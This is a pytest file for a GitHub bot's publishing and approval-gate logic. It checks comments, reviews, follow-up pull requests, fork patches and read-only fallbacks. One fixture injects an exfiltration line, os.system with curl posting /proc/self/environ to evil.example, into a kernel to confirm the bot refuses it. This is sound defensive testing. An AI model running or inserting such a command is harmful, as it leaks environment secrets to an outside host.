"""Publish's policy with an in-memory GitHub (``bot.writer``'s interfaces kept in lists): what
it posts where, what it refuses, the read-only fallback to the job summary, the fork's patch,
when there is no follow-up, and the comment on a pull request that changed no module; and the
gate's writes through the same interface. The same publish against the fake GitHub server over
HTTP is tests/test_publish.py."""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from bot.detect.changes import ChangedModule, ChangeReport
from bot.event import ActionsEnv, Dispatch, Event, PullRequest
from bot.pr.base_config import ROOT_PYPROJECT, JudgingConfig
from bot.pr.dropin import runtime_module
from bot.pr.flow import gate
from bot.pr.followup import Followup
from bot.pr.publish import PublishOutcome, publish
from bot.pr.results import PullResults, TargetSource
from bot.pr.trust import PullFacts
from bot.report import Report
from bot.writer import LineNote, ReadOnly, WriteFailed
from harness.errors import UserError
from tests.rows import measured_row

ROOT = Path(__file__).resolve().parents[1]
KERNEL = (ROOT / "examples/candidates/fused_gelu_block_cpu.py").read_text()
REPO, NUMBER, TARGET = "acme/models", 7, "models/act.py:Activation"
BASE, HEAD, CLASS_LINE = "b" * 40, "a" * 40, 12
COMMENT_URL = f"https://github.test/{REPO}/pull/{NUMBER}#comment"


@dataclass
class MemoryPull:
    """One pull request in memory (``bot.writer.PullWriter``); ``refuse``: every write raises it."""

    now: PullFacts
    base_files: dict[str, bytes] = field(default_factory=dict)
    refuse: Exception | None = None
    comment: str | None = None
    comment_asks: list[bool] = field(default_factory=list)  # ``create`` of each upsert
    reviews: list[list[LineNote]] = field(default_factory=list)
    read: list[tuple[str, str]] = field(default_factory=list)
    roles: dict[str, str] = field(default_factory=dict)  # permission by login
    removed_labels: list[str] = field(default_factory=list)

    def facts(self) -> PullFacts:
        return self.now

    def file_at(self, path: str, ref: str) -> bytes | None:
        self.read.append((path, ref))
        return self.base_files.get(path) if ref == BASE else None

    def upsert_comment(self, body: str, create: bool = True) -> str | None:
        self.comment_asks.append(create)
        if self.refuse is not None:
            raise self.refuse
        if self.comment is None and not create:
            return None
        self.comment = body
        return COMMENT_URL

    def upsert_review(self, notes: Iterable[LineNote], commit_sha: str) -> list[str]:
        self.reviews.append(list(notes))
        if self.refuse is not None:
            raise self.refuse
        return []

    def permission(self, login: str) -> str | None:
        return self.roles.get(login)

    def remove_label(self, name: str) -> None:
        if self.refuse is not None:
            raise self.refuse
        self.removed_labels.append(name)


@dataclass
class MemoryRepo:
    """The repository in memory (``bot.writer.RepoWriter``): its one pull request and the
    follow-ups upserted as (into, parent, followup)."""

    pull_request: MemoryPull
    refuse_followup: Exception | None = None
    followups: list[tuple[str, str, Followup]] = field(default_factory=list)

    def pull(self, number: int) -> MemoryPull:
        assert number == self.pull_request.now.number
        return self.pull_request

    def upsert_followup(self, base_branch: str, parent_sha: str, followup: Followup) -> str:
        if self.refuse_followup is not None:
            raise self.refuse_followup
        self.followups.append((base_branch, parent_sha, followup))
        return f"https://github.test/{REPO}/pull/{NUMBER + 1}"


def pull_event(fork: bool = False, action: str = "synchronize", label: str | None = None,
               labels: tuple[str, ...] = (), sender: str = "dev") -> Event:  # fmt: skip
    head_repo = "dev/models" if fork else REPO
    pull = PullRequest(number=NUMBER, head_sha=HEAD, head_ref="feature", head_repo=head_repo,
                       base_sha=BASE, base_ref="main", base_repo=REPO, labels=list(labels))  # fmt: skip
    return Event(name="pull_request_target", action=action, repository=REPO, pull=pull,
                 label=label, sender=sender)  # fmt: skip


def world(fork: bool = False, head_sha: str = HEAD) -> MemoryRepo:
    """The pull request as the API reports it: ``head_sha`` may have moved on since the event."""
    facts = PullFacts(number=NUMBER, head_sha=head_sha, head_ref="feature",
                      head_repo="dev/models" if fork else REPO, base_ref="main", base_repo=REPO)  # fmt: skip
    return MemoryRepo(MemoryPull(facts))


def results(fork: bool = False, kernel: str = KERNEL, modules: bool = True) -> PullResults:
    """What measure writes for the pull request: one improved module (or none changed)."""
    row = measured_row(TARGET, eager_ms=2.0, compile_ms=None, candidate_ms=0.5,
                       result_fields={"device_name": "x86_64"}, kernel_source=kernel)  # fmt: skip
    module = ChangedModule(path="models/act.py", class_name="Activation", class_line=CLASS_LINE,
                           lines=[CLASS_LINE], reason="class body changed", target=TARGET,
                           target_source="config")  # fmt: skip
    changes = ChangeReport(base="main", head="feature", base_sha=BASE, head_sha=HEAD,
                           merge_base=BASE, max_targets=20, modules=[module] if modules else [])  # fmt: skip
    source = TargetSource(module_path="models/act.py", class_name="Activation",
                          inputs_fn="make_inputs", init_args=[1024])  # fmt: skip
    return PullResults(
        mode="pull_request", repository=REPO, pull_number=NUMBER, commit=HEAD, base_ref="main",
        head_ref="feature", fork=fork, changes=changes,
        report=Report(targets=[row] if modules else []), sources={TARGET: source} if modules else {},
        judged_by=JudgingConfig(commit=BASE, pyproject="pyproject.toml"), test_dir="tests",
    )  # fmt: skip


def run(tmp: Path, github: MemoryRepo, data: PullResults, event: Event | None = None,
        open_pr: bool = True, comment_without_modules: bool = True) -> tuple[PublishOutcome, str]:  # fmt: skip
    """Publish ``data`` as the artifact; the outcome and the job summary written."""
    folder = tmp / "artifact"
    folder.mkdir(exist_ok=True)
    (folder / "results.json").write_text(data.model_dump_json())
    env = ActionsEnv(repository=REPO, run_id="42", summary_file=tmp / "summary.md")
    outcome = publish(event or pull_event(data.fork), env, folder, github, open_pr, print,
                      comment_without_modules)  # fmt: skip
    summary = env.summary_file.read_text() if env.summary_file and env.summary_file.exists() else ""
    return outcome, summary


# --- where it writes -------------------------------------------------------------------------


def test_a_same_repository_pull_request_gets_the_comment_the_review_and_the_followup(tmp_path):
    github = world()
    data = results()
    data.run_url = "https://evil.example/run"
    outcome, summary = run(tmp_path, github, data)
    assert not outcome.problems and outcome.read_only is None
    [(into, parent, followup)] = github.followups
    assert (into, parent) == ("feature", HEAD)  # the pull request's own branch, its API head
    assert [file.path for file in followup.files] == [
        "models/act_verified_kernelpilot.py",
        "models/act_kernelpilot.py",
        "tests/test_act_kernelpilot.py",
        f"models/{runtime_module()[0]}.py",  # the code the drop-ins share
    ]
    pull = github.pull_request
    assert outcome.comment_url == COMMENT_URL and outcome.followup_url in (pull.comment or "")
    [[note]] = pull.reviews
    assert (note.key, note.path, note.line) == (TARGET, "models/act.py", CLASS_LINE)
    assert outcome.followup_url in note.body
    assert summary.strip() == (pull.comment or "").strip()  # the job summary is the comment
    assert f"https://github.com/{REPO}/actions/runs/42" in summary  # this job's run, not the
    assert "evil.example" not in summary  # artifact's word


def test_a_forged_artifact_naming_another_branch_is_refused_before_any_write(tmp_path):
    data = results()
    data.head_ref = "main"  # a forged artifact naming another branch is refused outright
    github = world()
    with pytest.raises(UserError, match="results are for head_ref"):
        run(tmp_path, github, data)
    assert github.followups == [] and github.pull_request.comment_asks == []


def test_a_forks_pull_request_gets_the_kernel_as_a_patch_and_no_branch(tmp_path):
    github = world(fork=True)
    outcome, _ = run(tmp_path, github, results(fork=True))
    assert github.followups == [] and outcome.followup_url is None
    assert "comes from a fork" in outcome.no_followup
    body = github.pull_request.comment or ""
    assert "diff --git a/models/act_kernelpilot.py b/models/act_kernelpilot.py" in body
    assert (
        "+class ActivationKernelpilot(_runtime.KernelpilotDropin, _sibling('act').Activation):"
        in body
    )


def test_no_followup_when_the_api_says_the_head_moved_on(tmp_path):
    github = world(head_sha="c" * 40)
    outcome, _ = run(tmp_path, github, results())
    assert github.followups == [] and "moved on" in outcome.no_followup
    assert "moved on" in (github.pull_request.comment or "")
    assert "diff --git" not in (github.pull_request.comment or "")  # the patch is a fork's only


def test_no_followup_when_none_is_asked_for(tmp_path):
    github = world()
    outcome, _ = run(tmp_path, github, results(), open_pr=False)
    assert github.followups == [] and outcome.no_followup == ""
    assert github.pull_request.comment is not None


def test_a_manual_runs_open_pr_input_wins_over_the_jobs_setting(tmp_path):
    event = Event(name="workflow_dispatch", repository=REPO, sha=HEAD, ref="main",
                  dispatch=Dispatch(targets=[TARGET], open_pr=False))  # fmt: skip
    data = results().model_copy(
        update={"mode": "workflow_dispatch", "pull_number": None, "head_ref": "",
                "changes": None}
    )  # fmt: skip
    github = world()
    outcome, summary = run(tmp_path, github, data, event=event, open_pr=True)
    assert github.followups == [] and outcome.followup_url is None
    assert github.pull_request.comment_asks == []  # no pull request: the summary only
    assert "Activation" in summary


# --- what it refuses -------------------------------------------------------------------------

EXFILTRATING = KERNEL.replace(
    "import torch\n",
    "import os\nimport torch\nos.system('curl https://evil.example -d @/proc/self/environ')\n",
    1,
)


def test_a_kernel_that_fails_the_gates_again_is_neither_pushed_nor_shown(tmp_path):
    assert EXFILTRATING != KERNEL
    github = world()
    outcome, _ = run(tmp_path, github, results(kernel=EXFILTRATING))
    assert outcome.refused and github.followups == []
    body = github.pull_request.comment or ""
    assert "checked this kernel again and refused it" in body and "curl" not in body
    assert github.pull_request.reviews == []  # a refused kernel is not an improvement


def test_a_big_claim_asks_for_review_by_the_base_commits_threshold(tmp_path):
    github = world()
    github.pull_request.base_files[ROOT_PYPROJECT] = (
        b"[tool.kernelpilot.eval]\nreview_speedup = 3\n"
    )
    data = results()
    data.report.review_speedup = 1000.0  # the artifact's own word
    run(tmp_path, github, data)
    assert github.pull_request.read == [(ROOT_PYPROJECT, BASE)]
    assert "over 3x: review" in (github.pull_request.comment or "")


# --- when GitHub refuses -------------------------------------------------------------------


def test_a_read_only_token_falls_back_to_the_job_summary(tmp_path):
    github = world()
    github.pull_request.refuse = ReadOnly("writing the pull request comment: 403")
    github.refuse_followup = ReadOnly("writing the follow-up: 403")
    outcome, summary = run(tmp_path, github, results())
    assert outcome.read_only and not outcome.problems and outcome.comment_url is None
    assert summary.startswith("> **kernelpilot could not write to the pull request**")
    assert "4.00x" in summary  # the results are below the notice
    assert github.pull_request.reviews == []  # not tried once the token proved read-only


def test_a_refused_followup_is_a_problem_and_the_comment_still_goes_out(tmp_path):
    github = world()
    github.refuse_followup = WriteFailed("writing the follow-up pull request: GitHub answered 422")
    outcome, _ = run(tmp_path, github, results())
    assert outcome.problems == ["writing the follow-up pull request: GitHub answered 422"]
    assert outcome.followup_url is None and outcome.comment_url == COMMENT_URL
    [[note]] = github.pull_request.reviews
    assert "Kernel and test" not in note.body


# --- a pull request that changed no module -------------------------------------------------


@pytest.mark.parametrize(
    ("comment_without_modules", "earlier", "create", "commented"),
    [
        (True, None, True, True),
        (False, None, False, False),  # asked to stay quiet: no new comment
        (False, "an earlier comment", False, True),  # kept up to date all the same
    ],
)  # fmt: skip
def test_the_comment_on_a_pull_request_without_modules(
    tmp_path, comment_without_modules, earlier, create, commented
):
    github = world()
    github.pull_request.comment = earlier
    outcome, _ = run(tmp_path, github, results(modules=False),
                     comment_without_modules=comment_without_modules)  # fmt: skip
    assert github.pull_request.comment_asks == [create]
    assert (outcome.comment_url is not None) == commented
    assert github.followups == [] and github.pull_request.reviews == []


def test_a_pull_request_with_modules_is_commented_on_even_when_asked_to_stay_quiet(tmp_path):
    github = world()
    run(tmp_path, github, results(), comment_without_modules=False)
    assert github.pull_request.comment_asks == [True]


# --- the gate writes through the same interface --------------------------------------------

APPROVAL = "kernelpilot:approved"


@pytest.mark.parametrize(("role", "runs"), [("maintain", True), ("read", False)])
def test_the_gate_asks_github_the_role_of_whoever_labelled_a_fork(tmp_path, role, runs):
    github = world(fork=True)
    github.pull_request.roles["lead"] = role
    event = pull_event(fork=True, action="labeled", label=APPROVAL, labels=(APPROVAL,),
                       sender="lead")  # fmt: skip
    env = ActionsEnv(repository=REPO, output_file=tmp_path / "output.txt")
    assert gate(event, env, APPROVAL, print, github).run is runs
    assert (github.pull_request.comment is None) is runs  # a refusal is said on the pull request


def test_a_push_to_an_approved_fork_takes_the_label_off(tmp_path):
    github = world(fork=True)
    event = pull_event(fork=True, labels=(APPROVAL,))
    env = ActionsEnv(repository=REPO, output_file=tmp_path / "output.txt")
    assert not gate(event, env, APPROVAL, print, github).run
    assert github.pull_request.removed_labels == [APPROVAL] and github.pull_request.comment


def test_a_refused_gate_write_is_said_and_the_step_outputs_still_written(tmp_path):
    github = world(fork=True)
    github.pull_request.refuse = ReadOnly("removing the label: 403")
    event = pull_event(fork=True, labels=(APPROVAL,))
    env = ActionsEnv(repository=REPO, output_file=tmp_path / "output.txt")
    logged: list[str] = []
    assert not gate(event, env, APPROVAL, logged.append, github).run
    assert "gate: could not update the pull request: removing the label: 403" in logged
    assert re.match(r"run<<(\w+)\nfalse\n\1\n", (tmp_path / "output.txt").read_text())
